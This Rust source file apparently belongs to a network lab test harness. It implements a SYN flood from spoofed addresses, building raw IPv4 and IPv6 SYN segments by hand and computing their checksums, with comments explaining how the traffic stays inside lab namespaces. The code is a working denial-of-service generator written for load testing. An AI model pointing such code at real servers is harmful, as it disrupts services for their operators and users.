//! A SYN flood: raw SYN segments from spoofed sources, sent from the client namespace alongside
//! the storm, as in seed 004.
//!
//! Every source address is in the lab's flood network ([`crate::family::LabAddrs::flood_net`]:
//! 198.19.0.0/16, or 2001:2:0:ff00::/64 on IPv6). The server namespace routes that
//! network back over the lab link, and the client namespace blackholes it, so the server's
//! SYN-ACKs die inside the lab: no RST ever comes back, and each SYN leaves a request socket
//! in the server's SYN queue until its SYN-ACK retransmissions run out, exactly like a flood
//! from addresses that do not answer. Nothing leaves the lab's namespaces.
//!
//! The segments are built by hand (IPv4 or IPv6 header + TCP header with an MSS option) and sent
//! on an `IPPROTO_RAW` socket, which implies a header of our own in both families; the kernel
//! fills in the IPv4 checksum and ID, we compute the TCP checksum.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::error::Failure;
use crate::family::Net;
use crate::netns::Netns;
use crate::plan::FloodPlan;
pub use crate::record::stats::FloodStats;

/// A flood running on its own thread in the client namespace.
/// Dropping it stops the flood too (and waits for its thread), so an error elsewhere in a run
/// never leaves SYNs going out.
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<FloodStats>>,
}

impl Flood {
    /// Opens the raw socket in `ns` (so a missing capability fails before any traffic) and
    /// starts sending at `t0 + plan.start`, from spoofed sources in `sources`.
    pub fn start(
        ns: &Netns,
        plan: &FloodPlan,
        target: std::net::SocketAddr,
        sources: Net,
        t0: Instant,
        seed: u64,
    ) -> Result<Flood, Failure> {
        let net = sources.addr;
        let socket = ns
            .run(|| {
                Socket::new(
                    Domain::for_address(target),
                    Type::RAW,
                    Some(Protocol::from(libc::IPPROTO_RAW)),
                )
            })?
            .map_err(|e| {
                Failure::environment(format!(
                    "cannot open a raw socket for the SYN flood in the client namespace: {e} \
                     (this needs CAP_NET_RAW); remove [flood] to run without it"
                ))
            })?;
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let plan = plan.clone();
        let thread = std::thread::Builder::new()
            .name("bl-flood".into())
            .spawn(move || send_all(&socket, &plan, target, net, t0, seed, &flag))
            .map_err(|e| Failure::environment(format!("cannot start the SYN flood: {e}")))?;
        Ok(Flood {
            stop,
            thread: Some(thread),
        })
    }

    /// Stops early if still sending, and returns what was sent.
    pub fn stop(mut self) -> FloodStats {
        self.stop.store(true, Ordering::SeqCst);
        let thread = self.thread.take().expect("stopped once");
        thread.join().expect("flood thread panicked")
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Longest single sleep of the flood thread, so a stop request is seen promptly even when the
/// next SYN is far off (a late `flood.start`, or a slow rate).
const NAP: Duration = Duration::from_millis(20);

fn send_all(
    socket: &Socket,
    plan: &FloodPlan,
    target: SocketAddr,
    sources: IpAddr,
    t0: Instant,
    seed: u64,
    stop: &AtomicBool,
) -> FloodStats {
    let mut rng = SmallRng::seed_from_u64(seed ^ 0xf100d);
    // Port 0: an IPv6 raw socket reads the port as the protocol number and refuses one above 255.
    let dest = SockAddr::from(SocketAddr::new(target.ip(), 0));
    let start = t0 + plan.start;
    let gap = Duration::from_secs_f64(1.0 / plan.rate);
    let mut stats = FloodStats::default();
    let mut first = None;
    let mut last = start;
    for i in 0..plan.count {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        let due = start + gap.mul_f64(i as f64);
        loop {
            let now = Instant::now();
            if due <= now || stop.load(Ordering::Relaxed) {
                break;
            }
            std::thread::sleep((due - now).min(NAP));
        }
        if stop.load(Ordering::Relaxed) {
            break;
        }
        let source = match sources {
            IpAddr::V4(net) => {
                let host: u16 = rng.random_range(1..=u16::MAX - 1);
                IpAddr::V4(Ipv4Addr::from(u32::from(net) | u32::from(host)))
            }
            IpAddr::V6(net) => {
                let host: u64 = rng.random_range(1..u64::MAX);
                IpAddr::V6(Ipv6Addr::from(u128::from(net) | u128::from(host)))
            }
        };
        let segment = syn(
            source,
            rng.random_range(1024..=65535),
            target.ip(),
            target.port(),
            rng.random(),
        );
        match socket.send_to(&segment, &dest) {
            Ok(_) => stats.sent += 1,
            Err(_) => stats.errors += 1,
        }
        first.get_or_insert_with(Instant::now);
        last = Instant::now();
    }
    if let Some(first) = first {
        let span = (last - first).as_secs_f64();
        if span > 0.0 {
            stats.achieved_rate = (stats.sent.saturating_sub(1)) as f64 / span;
        }
    }
    stats
}

/// An IP + TCP SYN segment with an MSS option of 1460 (1440 on IPv6, whose header is 20 bytes
/// longer), from `src` to `dst` (both of one family).
pub fn syn(src: IpAddr, sport: u16, dst: IpAddr, dport: u16, seq: u32) -> Vec<u8> {
    const TCP_LEN: usize = 24; // 20 + MSS option
    let (mut p, ip_len, mss) = match (src, dst) {
        (IpAddr::V4(src), IpAddr::V4(dst)) => {
            const IP_LEN: usize = 20;
            let mut p = vec![0u8; IP_LEN + TCP_LEN];
            p[0] = 0x45; // IPv4, 5 words
            p[2..4].copy_from_slice(&((IP_LEN + TCP_LEN) as u16).to_be_bytes());
            p[6] = 0x40; // don't fragment
            p[8] = 64; // TTL
            p[9] = libc::IPPROTO_TCP as u8;
            p[12..16].copy_from_slice(&src.octets());
            p[16..20].copy_from_slice(&dst.octets());
            (p, IP_LEN, 1460u16)
        }
        (IpAddr::V6(src), IpAddr::V6(dst)) => {
            const IP_LEN: usize = 40;
            let mut p = vec![0u8; IP_LEN + TCP_LEN];
            p[0] = 0x60; // IPv6, traffic class and flow label 0
            p[4..6].copy_from_slice(&(TCP_LEN as u16).to_be_bytes()); // payload length
            p[6] = libc::IPPROTO_TCP as u8; // next header
            p[7] = 64; // hop limit
            p[8..24].copy_from_slice(&src.octets());
            p[24..40].copy_from_slice(&dst.octets());
            (p, IP_LEN, 1440u16)
        }
        _ => panic!("a SYN from {src} to {dst}: the two addresses are of different families"),
    };
    let t = &mut p[ip_len..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = ((TCP_LEN / 4) as u8) << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    t[20..22].copy_from_slice(&[2, 4]); // MSS
    t[22..24].copy_from_slice(&mss.to_be_bytes());
    let sum = tcp_checksum(src, dst, &p[ip_len..]);
    p[ip_len + 16..ip_len + 18].copy_from_slice(&sum.to_be_bytes());
    p
}

/// The TCP checksum over the pseudo-header and the segment (whose checksum field is 0). The
/// IPv6 pseudo-header's 32-bit length and next header sum to the same 16-bit words as IPv4's.
fn tcp_checksum(src: IpAddr, dst: IpAddr, segment: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    let mut add = |bytes: &[u8]| {
        for chunk in bytes.chunks(2) {
            let word = if chunk.len() == 2 {
                u16::from_be_bytes([chunk[0], chunk[1]])
            } else {
                u16::from_be_bytes([chunk[0], 0])
            };
            sum += u32::from(word);
        }
    };
    for ip in [src, dst] {
        match ip {
            IpAddr::V4(ip) => add(&ip.octets()),
            IpAddr::V6(ip) => add(&ip.octets()),
        }
    }
    add(&[0, libc::IPPROTO_TCP as u8]);
    add(&(segment.len() as u16).to_be_bytes());
    add(segment);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksum_verifies() {
        let src = IpAddr::V4(Ipv4Addr::new(198, 19, 1, 2));
        let dst = IpAddr::V4(Ipv4Addr::new(198, 18, 0, 1));
        let p = syn(src, 40000, dst, 8080, 12345);
        assert_eq!(p.len(), 44);
        // Summing a segment with its checksum in place gives 0 (i.e. !0xffff).
        assert_eq!(tcp_checksum(src, dst, &p[20..]), 0);
        assert_eq!(p[20 + 13], 0x02);
    }

    #[test]
    fn ipv6_syn_has_a_40_byte_header_and_a_checksum_that_verifies() {
        let src: IpAddr = "2001:2:0:ff00::1234".parse().unwrap();
        let dst: IpAddr = "2001:2::1".parse().unwrap();
        let p = syn(src, 40000, dst, 8080, 12345);
        assert_eq!(p.len(), 64);
        assert_eq!(p[0] >> 4, 6);
        assert_eq!(u16::from_be_bytes([p[4], p[5]]), 24, "payload length");
        assert_eq!(tcp_checksum(src, dst, &p[40..]), 0);
        assert_eq!(u16::from_be_bytes([p[40 + 2], p[40 + 3]]), 8080);
        assert_eq!(p[40 + 13], 0x02);
    }
}
